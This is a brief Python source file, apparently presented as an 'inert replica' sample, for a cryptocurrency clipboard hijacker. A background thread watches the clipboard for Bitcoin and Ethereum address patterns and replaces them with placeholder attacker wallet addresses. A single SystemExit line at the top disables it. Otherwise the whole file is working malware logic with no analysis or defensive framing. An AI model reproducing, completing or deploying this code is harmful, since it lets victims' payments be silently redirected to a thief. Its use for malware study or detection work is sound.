raise SystemExit("inert replica")
import re
import threading
import time

import pyperclip

WALLETS = {"btc": "replica-btc-address", "eth": "replica-eth-address"}
PATTERNS = {"btc": r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", "eth": r"^0x[a-fA-F0-9]{40}$"}


def watch():
    while True:
        text = pyperclip.paste()
        for kind, pattern in PATTERNS.items():
            if re.match(pattern, text):
                pyperclip.copy(WALLETS[kind])
        time.sleep(1)


threading.Thread(target=watch, daemon=True).start()
